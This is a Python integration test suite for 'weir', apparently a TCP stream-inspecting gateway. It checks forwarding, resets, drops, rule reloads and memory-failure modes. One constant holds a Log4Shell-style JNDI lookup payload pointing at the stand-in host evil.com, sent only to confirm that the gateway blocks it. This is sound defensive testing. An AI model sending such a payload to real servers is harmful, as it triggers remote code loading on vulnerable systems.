# SPDX-License-Identifier: BSD-3-Clause
"""Connections that weir carries: what was held against the stream rules is what arrives."""
import os
import re
import socket
import threading
import time

from cases import SOAK, Suite, check, check_equal
from frames import Capture
from lab import ALLOW_ALL, ROOT, WEIRCTL, Lab, cpus, need_device, read_file, wait_for
from test_flood import flood, syn_layer
from test_transfer import SIZE, transfer

suite = Suite()
PORT = 8080
INSPECT = ALLOW_ALL + """---
kind: AccessPolicy
metadata: { name: inspected }
spec: { from: any, to: any, protocol: tcp, action: allow, inspect: true }
"""
SHIPPED = f"rules: {{ stream: [{ROOT}/rules/stream] }}\n"
HARMLESS = b"GET / HTTP/1.1\r\nX: ${user}\r\n\r\n"
JNDI = b"X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"
DEVICES = [{"device": device} for device in ("af_packet", "af_xdp", "tap")]


class Recorder:
    """A server that keeps what each connection's application read, and answers `answer` to it."""

    def __init__(self, end, family=socket.AF_INET, answer=b""):
        self.got, self.ends, self.answer = [], [], answer
        self.listener = end.socket(family, socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.listener.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", PORT))
        self.listener.listen(128)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.got.append(b"")
            self.ends.append(None)
            threading.Thread(target=self.read, args=(connection, len(self.got) - 1),
                             daemon=True).start()

    def read(self, connection, n):
        try:
            while data := connection.recv(65536):
                self.got[n] += data
                if self.answer:
                    connection.sendall(self.answer)
            self.ends[n] = "closed"
        except OSError as why:
            self.ends[n] = why.strerror
        connection.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


def dial(lab, host=None):
    host = host or lab.server.v4
    s = lab.client.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.connect((host, PORT))
    return s


def dial_in(lab, server):
    """A connection that the server's application has, too: a reset may else come before it does."""
    before = len(server.got)
    s = dial(lab)
    wait_for(lambda: len(server.got) > before, 30, "the server's side of the connection")
    return s


def say_slowly(s, text):
    """A byte a segment; gives the error that ended it, None: none did."""
    try:
        for i in range(len(text)):
            s.send(text[i:i + 1])
            time.sleep(0.001)
        return None
    except OSError as why:
        return why.strerror


def error_at_end(s):
    """The error that ends what comes; None: none does."""
    try:
        while s.recv(65536):
            pass
        return None
    except OSError as why:
        return why.strerror


@suite.case(each=DEVICES)
def in_a_syn_flood_connections_begin_by_cookie_and_are_inspected(device):
    need_device(device)
    with Lab(device) as lab, lab.weir(policy=INSPECT, more=SHIPPED,
                                      memory=", inspected: 256") as weir:
        def flooded():
            """What is half open goes after some seconds: again before each connection."""
            before = weir.counters()["tcp_cookies_sent"]
            flood(lab, weir, syn_layer(), 400)
            wait_for(lambda: weir.counters()["tcp_cookies_sent"] > before, 30, "answers by cookie")

        with Recorder(lab.server, answer=b"well") as server:
            flooded()
            with dial(lab) as good:
                good.sendall(HARMLESS)
                check_equal(good.recv(4), b"well", "the answer")
            check_equal(server.got[0], HARMLESS, "what arrived")
            wait_for(lambda: server.ends == ["closed"], 30, "the server's end")
            flooded()
            with dial(lab) as bad:
                # On a busy machine all bytes have gone before the reset comes.
                check(say_slowly(bad, JNDI) or error_at_end(bad), "nobody stopped it")
            wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 30, "a reset")
            check(b"jndi:" not in server.got[1], f"the server read {server.got[1]}")
        flooded()
        with lab.client.socket() as refused:
            refused.settimeout(30)
            try:
                refused.connect((lab.server.v4, PORT + 1))
                check_equal(refused.recv(1), b"", "a port that nobody listens on")
            except ConnectionResetError:
                pass
        weir.await_counters(tcp_cookies_taken=3)


@suite.case(each=DEVICES)
def a_jndi_string_in_one_byte_segments_does_not_arrive(device):
    need_device(device)
    with Lab(device) as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir:
        for family, host in ((socket.AF_INET, lab.server.v4), (socket.AF_INET6, lab.server.v6)):
            with Recorder(lab.server, family) as server, dial(lab, host) as good:
                check_equal(say_slowly(good, HARMLESS), None, "harmless")
                good.shutdown(socket.SHUT_WR)
                check_equal(good.recv(1), b"", "the end of what is harmless")
                check_equal(server.got[0], HARMLESS, "harmless bytes")
                with dial(lab, host) as bad:
                    wait_for(lambda: len(server.got) == 2, 30, "the server's side")
                    say_slowly(bad, JNDI)
                    wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 30,
                             "the server's end")
                    check(b"ldap:" not in server.got[1], f"the server read {server.got[1]}")
            alert = weir.wait_event(event_type="alert", alert={"signature_id": 1001}, dest_ip=host)
            check_equal(alert["stream"]["offset"], JNDI.index(b"jndi:") + 5, "offset")
            check(alert["stream"]["context"].startswith("x-xxx-xxxxxxx: ${jndi:"),
                  f"context: {alert['stream']['context']}")
            check_equal(alert["weir"]["reason"], "stream_rule", "reason")


@suite.case()
def what_comes_in_one_piece_is_stopped_as_well():
    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir, \
            Recorder(lab.server) as server, dial_in(lab, server) as bad:
        try:
            bad.sendall(b"A" * 100000 + JNDI + b"B" * 100000)
        except ConnectionResetError:
            pass  # it may come before all is sent
        wait_for(lambda: server.ends == ["Connection reset by peer"], 30, "the server's end")
        check(b"jndi:ldap:" not in server.got[0], "the pattern arrived")
        check_equal(weir.wait_event(event_type="alert")["stream"]["offset"],
                    100000 + JNDI.index(b"jndi:") + 5, "offset")


@suite.case()
def a_connection_that_no_rule_is_about_is_forwarded_after_its_handshake():
    with Lab("af_packet") as lab, lab.weir(policy=INSPECT, more="rules: { stream: [own.hs] }\n",
                                           start=False) as weir:
        for name, text in (("own.hs", "1:/attack/\n"),
                           ("own.yaml", "patterns: [{ id: 1, ports: [9999], action: reset }]\n")):
            with open(os.path.join(lab.dir, name), "w", encoding="ascii") as f:
                f.write(text)
        weir.start()
        with Recorder(lab.server, answer=b"well") as server, dial_in(lab, server) as s:
            for n in range(1, 6):
                s.sendall(HARMLESS)
                check_equal(s.recv(4), b"well", "the answer")
                check_equal(server.got[0], n * HARMLESS, "what arrived")
            weir.await_counters(flows_released=1)
            s.shutdown(socket.SHUT_WR)
            wait_for(lambda: server.ends[0] == "closed", 30, "the server's end")


@suite.case()
def trace_shows_what_came_what_weir_sent_and_what_it_stopped():
    with Lab("af_packet") as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir:
        def seen():
            return [re.sub(r"^\S+ TCP \S+ (\S+) \S+ len (\d+) \S+(?: \[(\w+)\])?.* (\w+) "
                           r"by inspected", r"\1 \2 \3 \4", line)
                    for line in read_file(path).splitlines()]

        path = os.path.join(lab.dir, "trace")
        with open(path, "w", encoding="utf-8") as out:
            lab.gateway.start(WEIRCTL, "--socket", weir.socket_path, "trace", "--any",
                              lab.client.v4, "--seconds", 60, stdout=out)
        wait_for(lambda: lab.client.run("ping", "-c", "1", lab.server.v4) and seen(), 30,
                 "the trace's beginning")
        with Recorder(lab.server) as server, dial_in(lab, server) as s:
            s.sendall(HARMLESS)
            wait_for(lambda: server.got[0] == HARMLESS, 30, "what was sent")
            s.sendall(JNDI)
            wait_for(lambda: server.ends[0], 30, "the server's end")
        for wanted in ("> 60 S allow", ">> 60 S allow", f"> {52 + len(HARMLESS)} PA allow",
                       f">> {52 + len(HARMLESS)} PA allow", f"> {52 + len(JNDI)} PA allow",
                       f">| {len(JNDI)}  deny (stream_rule)", ">> 52 RA allow", "<< 52 RA allow"):
            wait_for(lambda wanted=wanted: wanted in seen(), 10, f"{wanted} in {seen()}")
        check(f">> {52 + len(JNDI)} PA allow" not in seen(), f"it was sent on: {seen()}")


@suite.case()
def peers_that_speak_ecn_speak_it_with_weir():
    with Lab("af_packet") as lab, lab.weir(policy=INSPECT):
        for client_speaks in (True, False):
            lab.client.sysctl("net.ipv4.tcp_ecn", int(client_speaks))
            with Capture(lab.server) as capture, Recorder(lab.server) as server, \
                    dial_in(lab, server) as s:
                s.sendall(HARMLESS)
                wait_for(lambda server=server: server.got[0] == HARMLESS, 30, "what was sent")
            marks = {frame[15] & 3 for frame in capture.having(HARMLESS)}
            check_equal(marks, {2 if client_speaks else 0}, "ECN field of what the server got")


@suite.case()
def both_legs_of_a_connection_can_be_seen():
    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir, \
            Recorder(lab.server) as server, dial(lab) as s:
        s.sendall(b"0123456789")
        wait_for(lambda: server.got == [b"0123456789"], 30, "the bytes")
        # The last acknowledgement is on its way yet when the server has the bytes.
        flow = wait_for(lambda: [f for f in weir.ctl("flows", port=PORT)["flows"] if not sum(
            leg["unread"] + leg["unsent"] for leg in f["legs"])], 30, "all acknowledged")[0]
        check_equal([leg["peer"] for leg in flow["legs"]], ["client", "server"], "legs")
        for leg in flow["legs"]:
            check(leg["state"] == "established" and leg["rtt_us"] > 0 and
                  leg["cwnd"] >= leg["mss"] > 1000, f"leg: {leg}")
        check_equal((flow["legs"][0]["scanned"], flow["legs"][1]["scanned"]), (10, 0), "scanned")
        shown = weir.weirctl("flows").stdout
        check("carried by weir itself" in shown and shown.count("established") == 3,
              f"weirctl flows: {shown}")


@suite.case()
def a_connection_goes_on_when_inspection_is_given_up():
    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir, \
            Recorder(lab.server, answer=b"answer ") as server, dial(lab) as s:
        said = b""
        for way in ("true", "false", "true"):
            weir.write_policy(INSPECT.replace("inspect: true", f"inspect: {way}"))
            weir.weirctl("reload")
            for i in range(50):
                s.sendall(b"%03d " % i)
                said += b"%03d " % i
                check_equal(s.recv(100), b"answer ", f"answer {i} with inspection {way}")
            check_equal(server.got, [said], f"what arrived with inspection {way}")
            flow = weir.ctl("flows", port=PORT)["flows"][0]
            check_equal("legs" in flow, said.count(b"000") == 1, f"carried with inspection {way}")
            check_equal(flow.get("midstream", False), said.count(b"000") == 3, "midstream")
        weir.await_counters(flows_released=1)


RULES = """1:/alert me/
2:/reset me/
3:/drop me/
4:/from the server/
"""
SIDECAR = """patterns:
  - { id: 1, message: "told", severity: low }
  - { id: 2, action: reset }
  - { id: 3, action: drop, ports: [ 8000-8999 ] }
  - { id: 4, direction: to_client, action: reset }
"""


def write_rules(lab, rules=RULES, sidecar=SIDECAR):
    folder = f"{lab.dir}/stream"
    os.makedirs(folder, exist_ok=True)
    for name, text in (("a.hs", rules), ("a.yaml", sidecar)):
        with open(f"{folder}/{name}", "w", encoding="utf-8") as f:
            f.write(text)
    return f"rules: {{ stream: [{folder}], cache: {lab.dir}/cache }}\n"


@suite.case()
def each_action_does_what_it_says():
    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=write_rules(lab)) as weir, \
            Recorder(lab.server, answer=b"greetings from the server") as server:
        with dial(lab) as s:
            s.sendall(b"please alert me")
            wait_for(lambda: server.got == [b"please alert me"], 30, "what is only told")
            try:
                s.recv(100)
                check(False, "the answer arrived")
            except ConnectionResetError:
                pass
        alert = weir.wait_event(event_type="alert", alert={"signature_id": 1})
        check_equal(alert["alert"], {"action": "allowed", "signature_id": 1, "signature": "told",
                                     "severity": 4}, "the alert")
        check_equal(weir.wait_event(event_type="alert", alert={"signature_id": 4})["direction"],
                    "to_client", "direction")
        with dial_in(lab, server) as s:
            s.sendall(b"please drop me")
            wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 30, "the receiver")
            s.settimeout(1)
            try:
                check(False, f"the sender heard {s.recv(1)}")
            except TimeoutError:
                pass
        check_equal(server.got[1], b"", "what was dropped")


@suite.case()
def rules_change_while_connections_are_open():
    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=write_rules(lab)) as weir, \
            Recorder(lab.server) as server, dial(lab) as old:
        old.sendall(b"res")
        wait_for(lambda: server.got == [b"res"], 30, "the first bytes")
        write_rules(lab, "5:/other/\n", "patterns: [ { id: 5, action: reset } ]\n")
        weir.weirctl("reload")
        with dial_in(lab, server) as new:
            new.sendall(b"reset me and the other")
            wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 30, "the new rule")
        old.sendall(b"et me")
        wait_for(lambda: server.ends[0] == "Connection reset by peer", 30, "the old rule")
        check_equal(server.got[0], b"res", "what arrived under the old rules")
        write_rules(lab, "5:/other(/\n", "")
        done = weir.weirctl("reload", check=False)
        check("a.hs:1:4: error: Missing close parenthesis" in done.stdout and done.returncode == 1,
              f"a bad rule: exit {done.returncode}: {done.stdout}")
        with dial_in(lab, server) as new:
            new.sendall(b"the other")
            wait_for(lambda: server.ends[2:] == ["Connection reset by peer"], 30,
                     "the running rule")


@suite.case(limit_s=200, soak_limit_s=4000,
            each=[{"device": device, "workers": n} for device in ("af_packet", "af_xdp", "tap")
                  for n in ((1, 2) if SOAK or device == "af_xdp" else (1,))])
def both_ways_at_once_with_inspection_the_checksums_are_right(device, workers):
    need_device(device)
    with Lab(device, workers=min(workers, len(cpus()))) as lab, \
            lab.weir(policy=INSPECT, more=SHIPPED) as weir:
        www = lab.nginx()
        transfer(lab, lab.server.v4, www)
        transfer(lab, f"[{lab.server.v6}]", www)
        wait_for(lambda: weir.counters()["scanned_bytes"] > 4 * SIZE, 30, "all bytes scanned")
        bad = {k: n for k, n in weir.drops().items() if k in ("tcp_memory", "scan_exhausted")}
        check(not bad, f"drops: {bad}")


@suite.case(each=[{"mode": mode} for mode in ("closed", "open", "reset")])
def without_room_for_inspection_the_declared_mode_acts(mode):
    policy = INSPECT.replace("unmatched: allow", f"failure: {{ memory: {mode} }}, unmatched: allow")
    with Lab("af_xdp") as lab, \
            lab.weir(policy=policy, memory=", inspected: 16", more=SHIPPED) as weir, \
            Recorder(lab.server):
        held = []
        for _ in range(17):  # a worker has one place more than its share
            held.append(dial(lab))
        outcome = "connected"
        try:
            s = lab.client.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(1.5 if mode == "closed" else 30)
            s.connect((lab.server.v4, PORT))
            s.close()
        except TimeoutError:
            outcome = "silence"
        except ConnectionRefusedError:
            outcome = "refused"
        check_equal(outcome, {"closed": "silence", "open": "connected", "reset": "refused"}[mode],
                    "the eighteenth connection")
        weir.wait_event(event_type="failure", weir={"reason": "flow_table_full"})
        for s in held:
            s.close()
        # Once both sides have closed, their places are free for the next.
        wait_for(lambda: all(f["state"] in ("time_wait", "closed")
                             for f in weir.ctl("flows", proto="tcp")["flows"]), 30, "all closed")
        with dial(lab) as s:
            say_slowly(s, b"hello")
        check_equal(weir.counters()["flows_inspected"], 18, "flows that were inspected")


if __name__ == "__main__":
    suite.main()
